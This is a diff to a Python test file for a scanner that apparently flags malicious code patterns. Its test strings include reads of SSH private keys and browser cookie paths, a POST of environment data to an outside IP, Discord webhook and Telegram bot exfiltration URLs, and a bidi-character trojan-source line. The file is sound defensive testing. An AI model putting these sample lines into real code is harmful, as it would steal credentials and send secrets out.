@@ -23,7 +23,7 @@ def test_each_family_is_found_on_its_line():
             f"PEM = '''{PRIVATE_KEY}'''",
             "open(os.path.expanduser('~/.ssh/id_rsa')).read()",
             "requests.post('http://203.0.113.7:8080/collect', data=env)",
-            "urlopen('https://discord.com/api/webhooks/1/abc')",
+            "urlopen('https://discord.com/api/webhooks/123456789012345678/abcDEF')",
             "access_level = 'user' # \u202e } \u2066if is_admin\u2069 \u2066 begin admins only",
             "blob = '" + base64.b64encode(random.Random(7).randbytes(1800)).decode() + "'",
         ]
@@ -69,3 +69,16 @@ def test_client_configuration_is_its_own_rule_and_arithmetic_is_not_an_encoded_l
         ["NETRC_FILES = ('.netrc', '_netrc')", "x = " + "1+" * 1500 + "1", "rule = '" + "-" * 3000 + "'"]
     )
     assert _found(text) == [("credentials.client-config", 1)]
+
+
+def test_a_service_base_url_is_not_a_webhook_but_a_concrete_endpoint_is():
+    text = "\n".join(
+        [
+            "API = 'https://api.telegram.org/bot'  # a client library builds requests on this",
+            "URL = f'https://discord.com/api/webhooks/{hook_id}/{token}'",
+            "EXFIL = 'https://api.telegram.org/bot123456789:AAbbCCddEEffGGhh/sendMessage'",
+            "docs: see the Cookies section",
+            "path = os.path.join(profile, 'Cookies')",
+        ]
+    )
+    assert _found(text) == [("credentials.sensitive-path", 5), ("network.paste-or-webhook-url", 3)]
